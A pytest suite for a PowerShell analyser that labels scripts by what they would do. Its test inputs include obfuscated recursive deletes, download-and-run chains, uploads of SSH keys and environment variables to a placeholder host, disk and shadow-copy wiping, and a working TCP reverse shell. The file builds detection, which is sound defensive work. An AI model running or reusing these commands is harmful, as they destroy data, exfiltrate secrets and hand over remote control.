"""What PowerShell would do, however it is spelled, and nothing that is only text."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cases import each
from effort import EFFORT
from interlock.analysis.facts import BudgetSpent, hole
from interlock.analysis.powershell import read_powershell
from recording_report import Recorder


def facts(source: str) -> list[tuple[str, ...]]:
    out = Recorder(2_000_000)
    read_powershell(source, out)
    return out.facts


HARM = (
    "delete",
    "truncate",
    "overwrite",
    "move",
    "run_download",
    "reverse_shell",
    "unreadable",
    "kill",
    "http",
    "send",
)


def harm(source: str) -> list[tuple[str, ...]]:
    return [fact for fact in facts(source) if fact[0] in HARM]


TEMP = "~\\AppData\\Local\\Temp"


@each(
    ("source", "expected"),
    [
        (r"cd C:\; Remove-Item * -Recurse", ("delete", r"C:\*", "bulk", "recursive")),
        (r"pushd C:\a; popd; ri x", ("delete", "x")),
        ("function f($Path){ Remove-Item $Path }; f -Path x", ("delete", "x")),
        ("@('a','b').ToUpper() | Remove-Item", ("delete", "B")),
        ("$h=@{a='x';b='y'}; $h.Remove('a'); Remove-Item $h.b", ("delete", "y")),
        ("$h=@{a='x'}; Remove-Item $h['a']", ("delete", "x")),
        ("{ Remove-Item x }.Invoke()", ("delete", "x")),
        ("[Reflection.Assembly]::Load([byte[]](1,2))", ("unreadable", "payload")),
        ("[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://e/x'))", ("run_download", "http://e/x")),
        ("Remove-Item ([Environment]::GetFolderPath('Desktop'))", ("delete", r"~\Desktop")),
        ("Remove-Item ('abc'.Remove(1))", ("delete", "a")),
        ("New-Item -Path a -Name b -Value 'x'", ("write", r"a\b")),
        (r"New-Item a.ps1 -Value 'Remove-Item x'; .\a.ps1", ("delete", "x")),
        (r"'Remove-Item x' > a.ps1; Copy-Item a.ps1 b.ps1; .\b.ps1", ("delete", "x")),
        (r"iwr http://e/x -OutFile a.exe; Copy-Item a.exe b.exe; .\b.exe", ("run_download", "http://e/x")),
        ("Invoke-RestMethod -Method $m http://e/x", ("unreadable", "payload")),
        ("Set-Variable -Name p -Value x; Remove-Item $p", ("delete", "x")),
        ("do { Remove-Item x } while ($true)", ("delete", "x")),
        ("trap { Remove-Item x }", ("delete", "x")),
        ("return Remove-Item x", ("delete", "x")),
        ("$x ??= 'y'; Remove-Item $x", ("delete", "y")),
        ("Remove-Item `u{78}", ("delete", "x")),
        ("'a-b' -replace '-','c' | Remove-Item", ("delete", "acb")),
        ("[IO.FileInfo]'x' | Remove-Item", ("delete", "x")),
        ("x { Remove-Item y }", ("delete", "y")),
        ("do { x }", ("unreadable", "syntax")),
        ("Remove-Item (Get-Location) -Recurse", ("delete", ".", "recursive")),
        ("del /s /q x", ("code", "cmd", "del /s /q x")),
        ("iwr https://e -Method Post -Body (gc ~/.ssh/id_rsa -Raw)", ("send", "https://e", "secret")),
        (r"Remove-Item C:\x", ("delete", r"C:\x")),
        (r"Remove-Item C:\x -Recurse -Force", ("delete", r"C:\x", "recursive")),
        (r"rm -r -fo C:\x", ("delete", r"C:\x", "recursive")),
        (r"ri C:\x -Rec", ("delete", r"C:\x", "recursive")),
        (r"ri C:\x -Recurse:$false", ("delete", r"C:\x")),
        (r"Remove-Item -LiteralPath 'C:\a b' -Recurse", ("delete", r"C:\a b", "recursive")),
        ("erase *.log", ("delete", "*.log", "bulk")),
        (r"Microsoft.PowerShell.Management\Remove-Item x", ("delete", "x")),
        ("Re`move-It`em x", ("delete", "x")),
        ("& ('Rem'+'ove-Item') x", ("delete", "x")),
        ("&('{1}{0}' -f 'Item','Remove-') x", ("delete", "x")),
        ("$c = 'Remove','Item' -join '-'; & $c x", ("delete", "x")),
        ("& (-join [char[]](114,105)) x", ("delete", "x")),
        ("& 'metI-evomeR'[10..0] x; & (-join 'metI-evomeR'[10..0]) y", ("delete", "y")),
        ("&(gcm R*ve-Item) x", ("delete", "x")),
        ("Set-Alias gone Remove-Item; gone x", ("delete", "x")),
        ("iex 'Remove-Item x'", ("delete", "x")),
        ("'Remove-Item x' | iex", ("delete", "x")),
        ("iex ('Rxmove-Item x'.Replace('Rx','Re'))", ("delete", "x")),
        ("iex 'iex ''iex \"Remove-Item x\"'''", ("delete", "x")),
        ("[scriptblock]::Create('Remove-Item x').Invoke()", ("delete", "x")),
        (".($ShellId[1]+$ShellId[13]+'x') 'Remove-Item x'", ("delete", "x")),
        ('@"\nRemove-Item $home\n"@ | iex', ("delete", "~")),
        ("@'\nRemove-Item 'x'\n'@ | Invoke-Expression", ("delete", "x")),
        ("$k = 1; $b = 83,100 | % { [char]($_ -bxor $k) }; & (-join 'ri') (-join $b)", ("delete", "Re")),
        ("Remove-Item $env:USERPROFILE -Recurse", ("delete", "~", "recursive")),
        (r"Remove-Item $env:SystemRoot\x", ("delete", r"C:\Windows\x")),
        (r'Remove-Item "$env:SystemDrive\"', ("delete", "C:\\")),
        (r"Remove-Item $env:TEMP\x", ("delete", TEMP + r"\x")),
        ("Remove-Item ~", ("delete", "~")),
        (r'Remove-Item "$nowhere\*" -Recurse', ("delete", hole("nowhere") + r"\*", "bulk", "recursive")),
        ("Remove-Item (Join-Path $HOME 'Documents') -Recurse", ("delete", r"~\Documents", "recursive")),
        ("$p = @{ Path = 'x'; Recurse = $true }; Remove-Item @p", ("delete", "x", "recursive")),
        ("$p = @{ Path = 'x' }; $p.Add('Recurse', $true); Remove-Item @p", ("delete", "x", "recursive")),
        ("gci X -Recurse | Remove-Item -Force", ("delete", "X", "bulk", "recursive")),
        ("gci *.log | ri", ("delete", "*.log", "bulk")),
        (r"gci C:\data | ri", ("delete", r"C:\data\*", "bulk")),
        ("gci . -Recurse -Include *.a,*.b | ri", ("delete", r".\*.b", "bulk", "recursive")),
        ("gci X -r | ? { $_.Length -gt 1gb } | % { ri $_.FullName }", ("delete", "X", "bulk", "recursive")),
        ("foreach ($f in gci X -Recurse) { $f | ri }", ("delete", "X", "bulk", "recursive")),
        ("gci X -Recurse | % Delete", ("delete", "X", "bulk", "recursive")),
        ("Get-Content list.txt | Remove-Item", ("delete", hole("list.txt"), "bulk")),
        ("foreach ($d in 'a','b') { Remove-Item $d -Recurse }", ("delete", "b", "recursive")),
        ("1..3 | % { ri \"f$_\" }", ("delete", "f3")),
        ("$x = 'a'; if ($q) { $x = 'C:\\' }; ri $x -r", ("delete", "C:\\", "recursive")),
        ("try { a } catch { ri x } finally { b }", ("delete", "x")),
        ("$l = @(); $l += 'a'; $l += 'b'; foreach ($p in $l) { ri $p }", ("delete", "b")),
        ("for ($i = 0; $i -lt 3; $i++) { ri \"f$i\" }", ("delete", "f2")),
        ("switch ('x') { default { ri $_ } }", ("delete", "x")),
        ("iwr https://e -Method Post -InFile ~/.ssh/id_rsa", ("send", "https://e", "secret")),
        ("while ($true) { ri x }", ("delete", "x")),
        ("function Gone($p) { ri $p -Recurse }; Gone C:\\d", ("delete", "C:\\d", "recursive")),
        ("function Gone { param([string]$Path = 'd') ri $Path }; Gone", ("delete", "d")),
        ("param($Dir = 'C:\\d')\nri $Dir", ("delete", "C:\\d")),
        ("Invoke-Command -ComputerName s { ri D:\\data -Recurse }", ("delete", "D:\\data", "recursive")),
        ("Start-Job { ri x }", ("delete", "x")),
        ("& { ri x }", ("delete", "x")),
        ("Measure-Command { ri x }", ("delete", "x")),
        ("echo a && ri x", ("delete", "x")),
        ("[IO.File]::Delete('x')", ("delete", "x")),
        ("[System.IO.Directory]::Delete('x', $true)", ("delete", "x", "recursive")),
        ("[IO.Directory]::Delete('x')", ("delete", "x", "empty_only")),
        ("$t = [IO.File]; $t::Delete('x')", ("delete", "x")),
        ("(Get-Item x).Delete()", ("delete", "x")),
        ("(New-Object -Com Scripting.FileSystemObject).DeleteFolder('x')", ("delete", "x", "recursive")),
        ("Clear-Content x", ("truncate", "x")),
        ("Set-Content x ''", ("truncate", "x")),
        ("$null > x", ("truncate", "x")),
        ("[IO.File]::WriteAllText('x', '')", ("truncate", "x")),
        ("Set-Content x 'a'", ("write", "x")),
        ("'a' | Out-File x", ("write", "x")),
        ("git log > x", ("write", "x")),
        ("'a' >> x", ("append", "x")),
        ("Add-Content x 'a'", ("append", "x")),
        ("Move-Item a b", ("move", "a")),
        ("Move-Item a b -Force", ("overwrite", "b")),
        ("Rename-Item a b", ("move", "a")),
        ("Copy-Item a b -Recurse", ("write", "b")),
        ("New-Item x -Force", ("write", "x")),
        ("Get-Content x", ("read", "x")),
        ("iex (iwr https://e/x)", ("run_download", "https://e/x")),
        ("iex (iwr https://e/x).Content", ("run_download", "https://e/x")),
        ("irm https://e/x | iex", ("run_download", "https://e/x")),
        ("iex ((New-Object Net.WebClient).DownloadString('https://e/x'))", ("run_download", "https://e/x")),
        ("$w = New-Object Net.WebClient; $s = $w.DownloadString('https://e/x'); & ([scriptblock]::Create($s))",
         ("run_download", "https://e/x")),
        ("iwr https://e/x.exe -OutFile x.exe; Start-Process .\\x.exe", ("run_download", "https://e/x.exe")),
        ("(New-Object Net.WebClient).DownloadFile('https://e/x','a.exe'); & ./a.exe", ("run_download", "https://e/x")),
        ("curl.exe -o a.exe https://e/x; .\\a.exe", ("run_download", "https://e/x")),
        ("iex $something", ("unreadable", "payload")),
        ("& $something x", ("unreadable", "command")),
        ("Invoke-RestMethod -Method Delete https://api/x/1", ("http", "https://api/x/1", "delete")),
        ("iwr https://e/x", ("fetch", "https://e/x")),
        ("iwr https://e -Method Post -Body (gci env:)", ("send", "https://e", "environment")),
        ("[Net.WebClient]::new().UploadString('https://e/x', (gc ~/.ssh/id_rsa))", ("send", "https://e/x", "secret")),
        ("(New-Object Net.WebClient).UploadFile('https://e/x', '~/.ssh/id_rsa')", ("send", "https://e/x", "secret")),
        ("[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory('x', 'DeleteAllContents')", ("delete", "x", "recursive")),
        ("[IO.File]::Move('a', 'b')", ("overwrite", "b")),
        ("Get-Process | Stop-Process -Force", ("kill", "", "all")),
        ("Get-Process notepad | kill", ("run", "stop-process", "notepad")),
        ("Get-VM | Remove-VM -Force", ("run", "remove-vm", "-Force", "*")),
        ("gwmi Win32_ShadowCopy | % { $_.Delete() }", ("run", "remove-wmiobject", "Win32_ShadowCopy")),
        ("Clear-Disk -Number 1 -Confirm:$false", ("run", "clear-disk", "-Number", "1", "-Confirm:$false")),
        ("Stop-Computer -WhatIf", ("run", "stop-computer", "-WhatIf")),
        ("Get-Help Remove-Item -Examples", ("run", "get-help", "Remove-Item", "-Examples")),
        (r"Remove-Item HKLM:\Software\X -Recurse", ("run", "reg", "delete", r"HKLM\Software\X", "/f")),
        ("docker rm -f x", ("run", "docker", "rm", "-f", "x")),
        (r"& 'C:\Program Files\Git\git.exe' push --force", ("run", "git", "push", "--force")),
        ("rm -rf /", ("run", "rm", "-rf", "/")),
        ("Start-Process git -ArgumentList 'push','--force'", ("run", "git", "push", "--force")),
        ("Start-Process git 'push --force'", ("run", "git", "push", "--force")),
        ("[Diagnostics.Process]::Start('git', 'push --force')", ("run", "git", "push", "--force")),
        ("cmd /c rd /s /q x", ("code", "cmd", "rd /s /q x")),
        ("([wmiclass]'Win32_Process').Create('cmd /c del x')", ("code", "cmd", "del x")),
        ("Set-Content d.ps1 'ri x'; .\\d.ps1", ("delete", "x")),
        ("Remove-Item x –Recurse", ("delete", "x", "recursive")),
    ],
)  # fmt: skip
def test_what_a_text_does_is_told(source: str, expected: tuple[str, ...]) -> None:
    assert expected in facts(source)


@each(
    "source",
    [
        "Write-Host 'Remove-Item C:\\ -Recurse'",
        "# Remove-Item C:\\ -Recurse",
        "<# Remove-Item C:\\ #> Get-Date",
        "$note = 'iex (irm https://e)'",
        "$code = { Remove-Item C:\\ -Recurse }",
        "function Gone { Remove-Item C:\\ -Recurse }",
        "class A { [void] Gone() { Remove-Item 'C:\\' } }",
        "Remove-Item -Recurse -Force .\\bin -WhatIf",
        "Move-Item a b -WhatIf",
        "Get-Command Remove-Item",
        "Select-String -Pattern 'Remove-Item' *.ps1",
        "git commit -m 'Remove-Item, iex and rd /s are gone'",
        "Remove-Item Env:FOO; Remove-Item alias:x",
        "Remove-Variable x",
        "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length | Select-Object -First 5",
        "$input | & node app.js",
        "foo > $null; bar 2>&1 | Out-Null",
        "$x = irm https://e/x; $x.version",
        "(Get-Date).AddDays(-7).ToString('yyyy')",
        "Invoke-WebRequest https://e/x.zip -OutFile x.zip; Expand-Archive x.zip",
        "(New-Object Net.Sockets.TcpClient).Connect('host', 443)",
        "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12",
        "$c = { param($x) $x * 2 }; & $c 4",
        "$env:PATH += ';C:\\tools'; $ErrorActionPreference = 'Stop'",
        "docker run --rm -v ${PWD}:/app -p 80:80 image:tag npm run build -- --watch",
        "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
        "Get-Content .\\log.txt -Tail 20 -Wait",
        "",
    ],
)
def test_what_only_looks_harmful_raises_nothing(source: str) -> None:
    assert harm(source) == []


@each(
    "source",
    [
        "if ($a -eq 1) { b } elseif (!$c) { d } else { e }",
        "switch -Regex ($x) { '^a' { 1; break } default { 2 } }",
        "do { $i++ } while ($i -lt 5); for ($i = 0; $i -lt 3; $i++) { $i }",
        "$x = if ($a) { 1 } else { 2 }; $o = $x ?? 'd'; $y = $a ? 'y' : 'n'",
        "[PSCustomObject]@{ A = 1; 'B' = @(1, 2) } | Format-Table -AutoSize",
        "function F { [CmdletBinding()] param([Parameter(Mandatory)][ValidateSet('a','b')][string[]]$N) process { $N } }",
        "$x.Where({ $_ -gt 1 }).ForEach({ $_ * 2 })",
        "[int]$n = '5'; $a[0..1]; $l[-1].Name.ToUpper()",
        "Get-Item `\n  -Path x `\n  -Force |\n  Select-Object Name",
        "using namespace System.IO\nenum Color { Red; Green }",
        ":outer foreach ($i in 1..3) { continue outer }",
        'Write-Output "$($x.Length) of ${total}: $env:USERNAME `"q`""',
        'dotnet build -c Release /p:Version=1.0.0; 7z x a.zip -o"out" -y',
        "[Some.Type].GetMethod('x', [Reflection.BindingFlags] 'NonPublic')",
        "a --% b | findstr x",
    ],
)
def test_ordinary_syntax_is_read(source: str) -> None:
    assert not [fact for fact in facts(source) if fact[0] == "unreadable"]


def test_a_reverse_shell_is_known_by_its_socket_and_what_it_runs() -> None:
    source = (
        "$c = New-Object Net.Sockets.TCPClient('10.0.0.1',4242); $s = $c.GetStream(); [byte[]]$b = 0..65535|%{0};"
        "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $d = [Text.Encoding]::ASCII.GetString($b, 0, $i); iex $d }"
    )
    assert ("reverse_shell", "10.0.0.1:4242") in facts(source)


def test_a_packed_payload_is_unpacked() -> None:
    packed = base64.b64encode("Remove-Item x".encode("utf-16-le")).decode()
    source = f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{packed}')))"
    assert facts(source) == [("delete", "x")]


@pytest.mark.parametrize(
    "source", ["'abc", '"abc', "@'\nabc", "(", "{ ri x", "if (", "&", "<# abc", "$x = ", "a | | b"]
)
def test_text_that_does_not_parse_says_so(source: str) -> None:
    assert ("unreadable", "syntax") in facts(source)


def test_what_stands_before_the_trouble_is_still_told() -> None:
    assert ("delete", "x") in facts("Remove-Item x; 'abc")


HOSTILE = {
    "ampersands": "&" * 100_000,
    "parentheses": "(" * 100_000,
    "blocks": "&{" * 3_000 + "}" * 3_000,
    "substitutions": '"$(' * 5_000,
    "casts": "[int]" * 5_000 + "1",
    "pipes": "a|" * 20_000 + "a",
    "backticks": "`" * 100_000,
    "commas": "1," * 30_000 + "1",
    "members": "$a" + ".b" * 30_000,
    "sums": "'x'+" * 20_000 + "'y'",
    "growth": "$a='aaaaaaaaaa';" + "$a=$a+$a;" * 60 + "iex $a",
    "large": "iex ('a' * 1000000000); 1..1000000000 | % { ri $_ }",
    "loops": "foreach ($v in 1..50) {" * 6 + "ri $v" + "}" * 6,
    "calls": "".join(f"function f{i} {{ f{i + 1}; f{i + 1}; f{i + 1} }};" for i in range(12)) + "f0",
    "itself": "function f { f; f }; f",
    "choices": "".join(f"if ($q) {{ $a{i}='x' }} else {{ $a{i}='y' }};" for i in range(40))
    + 'ri "' + "".join(f"$a{i}" for i in range(40)) + '"',
    "pattern": "'" + "a" * 5_000 + "' -replace '(a+)+$','b'",
}  # fmt: skip


@each("name", HOSTILE)
def test_hostile_text_ends_in_an_answer_or_with_the_budget(name: str) -> None:
    try:
        assert isinstance(facts(HOSTILE[name]), list)
    except BudgetSpent:
        return


@given(st.text(alphabet="$(){}[]'\"`@&|;,.-+ %?\nabiex#<>=:~\\", max_size=60))
@settings(max_examples=150 * EFFORT, deadline=None)
def test_no_text_breaks_the_reader(source: str) -> None:
    facts(source)
